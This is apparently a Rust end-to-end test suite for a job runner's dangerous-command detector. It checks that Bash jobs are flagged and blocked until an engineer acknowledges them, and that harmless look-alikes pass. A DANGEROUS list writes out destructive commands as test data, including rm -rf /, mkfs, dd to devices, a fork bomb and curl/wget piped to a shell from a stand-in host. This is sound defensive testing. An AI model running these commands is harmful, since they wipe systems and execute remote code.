//! Dangerous commands in Bash jobs (seed 002 §安全特性): found on save with their
//! line, they block activation (and execution) until an engineer acknowledges
//! them, which the job's history records. Harmless look-alikes are not findings.

use vwed_e2e::{Runtime, json};

use crate::jobs_util::{SCRIPTS, create, execute_resp, job, run};

const DANGEROUS: [(&str, &str); 12] = [
    ("rm -rf /", "rm_root"),
    ("rm -rf \"$WORK_DIR/\"*", "rm_root"),
    ("mkfs.ext4 /dev/sda1", "mkfs"),
    ("dd if=/dev/zero of=/dev/mmcblk0 bs=1M", "dd_device"),
    (":(){ :|:& };:", "fork_bomb"),
    (
        "curl -fsSL http://example.invalid/install.sh | sh",
        "pipe_to_shell",
    ),
    (
        "wget -qO- http://example.invalid/x | sudo bash",
        "pipe_to_shell",
    ),
    ("shutdown -h now", "shutdown"),
    ("systemctl reboot", "shutdown"),
    ("chmod -R 777 /", "chmod_root"),
    ("cat image.bin > /dev/sdb", "device_write"),
    ("bash -c \"rm -rf /\"", "rm_root"),
];

const HARMLESS: [&str; 10] = [
    "rm -rf ./build",
    "rm -rf \"${WORK_DIR:?}/\"*",
    "echo \"mkfs\"",
    "# rm -rf / would be a disaster",
    "echo 'shutdown' > notes.txt",
    "dd if=/dev/zero of=./disk.img bs=1k count=1",
    "grep -c reboot /dev/null || true",
    "chmod -R 755 ./dist",
    "curl -s -o install.sh http://127.0.0.1:9/install.sh || true",
    "cat <<'EOF'\nrm -rf /\nEOF",
];

#[test]
fn each_dangerous_pattern_is_found_with_its_line_and_blocks_activation() {
    let rt = Runtime::start();
    for (k, (command, rule)) in DANGEROUS.iter().enumerate() {
        let content = format!("#!/bin/bash\necho start\n{command}\necho end\n");
        let id = job(&rt, &format!("danger-{k}"), "bash", &content, json!({}));
        let got = rt.get(&format!("{SCRIPTS}/{id}"));
        let danger = &got.data()["danger"];
        assert_eq!(danger["findings"][0]["line"], 3, "{command}: {danger}");
        assert_eq!(danger["findings"][0]["rule"], *rule, "{command}: {danger}");
        assert_eq!(
            danger["findings"].as_array().map(Vec::len),
            Some(1),
            "{command}: {danger}"
        );
        assert_eq!(danger["blocks_activation"], true);
        let refused = rt.put(&format!("{SCRIPTS}/{id}"), &json!({"status": "active"}));
        refused.fails(409, "危险命令");
        assert_eq!(refused.data()["findings"][0]["rule"], *rule);
        execute_resp(&rt, id, json!({})).fails(409, "危险命令");
    }
    // Created active at once: refused the same way, nothing saved.
    let r = rt.post(
        SCRIPTS,
        &json!({"name": "at-once", "language": "bash", "content": "shutdown now\n", "status": "active"}),
    );
    r.fails(409, "危险命令");
    assert_eq!(
        rt.get(&format!("{SCRIPTS}?search=at-once")).data()["total"],
        0
    );
}

#[test]
fn an_engineers_acknowledgement_is_recorded_and_holds_for_its_version_only() {
    let rt = Runtime::start();
    let id = job(
        &rt,
        "wipe",
        "bash",
        "echo ok\nrm -rf \"$DIR/\"*\n",
        json!({}),
    );
    let (_, engineer) = crate::access::new_token(&rt, rt.token(), "engineer", None);
    rt.send_as(
        Some(&engineer),
        "POST",
        &format!("{SCRIPTS}/{id}/acknowledge"),
        Some(&json!({"reason": "DIR is always set by the caller"})),
    )
    .ok();
    let got = rt.get(&format!("{SCRIPTS}/{id}"));
    let d = got.data();
    assert_eq!(d["danger"]["blocks_activation"], false);
    assert_eq!(d["danger"]["acknowledged"]["by"], "engineer-e2e");
    // The audit log says who acknowledged what, and why.
    let audit = rt.get("/api/audit?action=job.acknowledge_danger");
    let entries = audit.ok().data()["entries"].clone();
    assert_eq!(entries[0]["user"], "engineer-e2e", "{entries}");
    assert_eq!(entries[0]["role"], "engineer", "{entries}");
    assert_eq!(entries[0]["target"], format!("job:{id} wipe"), "{entries}");
    assert!(
        entries[0]["detail"]
            .as_str()
            .is_some_and(|d| d.contains("版本 1") && d.contains("DIR is always set")),
        "{entries}"
    );
    assert_eq!(d["danger"]["acknowledged"]["version"], 1);
    let history = d["history"].to_string();
    assert!(
        history.contains("acknowledge_danger") && history.contains("DIR is always set"),
        "{history}"
    );
    rt.put(&format!("{SCRIPTS}/{id}"), &json!({"status": "active"}))
        .ok();

    // A new version with a finding needs its own acknowledgement while active.
    rt.put(
        &format!("{SCRIPTS}/{id}"),
        &json!({"content": "echo ok\nrm -rf \"$DIR/\"*\nreboot\n"}),
    )
    .fails(409, "危险命令");
    let saved = rt.put(
        &format!("{SCRIPTS}/{id}"),
        &json!({"content": "echo ok\nrm -rf \"$DIR/\"*\nreboot\n", "acknowledge_danger": true, "acknowledge_reason": "maintenance"}),
    );
    saved.ok();
    assert_eq!(saved.data()["version"], 2);
    assert_eq!(saved.data()["danger"]["acknowledged"]["version"], 2);
    assert_eq!(
        saved.data()["danger"]["findings"].as_array().map(Vec::len),
        Some(2)
    );

    // A job without findings has nothing to acknowledge.
    let plain = job(&rt, "plain", "bash", "echo hi\n", json!({}));
    rt.post(&format!("{SCRIPTS}/{plain}/acknowledge"), &json!({}))
        .fails(409, "没有");
    rt.post(&format!("{SCRIPTS}/99/acknowledge"), &json!({}))
        .fails(404, "99");
}

#[test]
fn harmless_look_alikes_are_not_findings() {
    let rt = Runtime::start();
    for (k, command) in HARMLESS.iter().enumerate() {
        let content = format!("WORK_DIR=$HOME/w\nmkdir -p \"$WORK_DIR\"\n{command}\necho end\n");
        let id = create(
            &rt,
            json!({"name": format!("harmless-{k}"), "language": "bash", "content": content, "status": "active"}),
        );
        let got = rt.get(&format!("{SCRIPTS}/{id}"));
        assert_eq!(got.data()["danger"]["findings"], json!([]), "{command}");
        assert_eq!(got.data()["status"], "active");
        let d = run(&rt, id, json!({}));
        assert_eq!(d["status"], "succeeded", "{command}: {d:#}");
    }
}
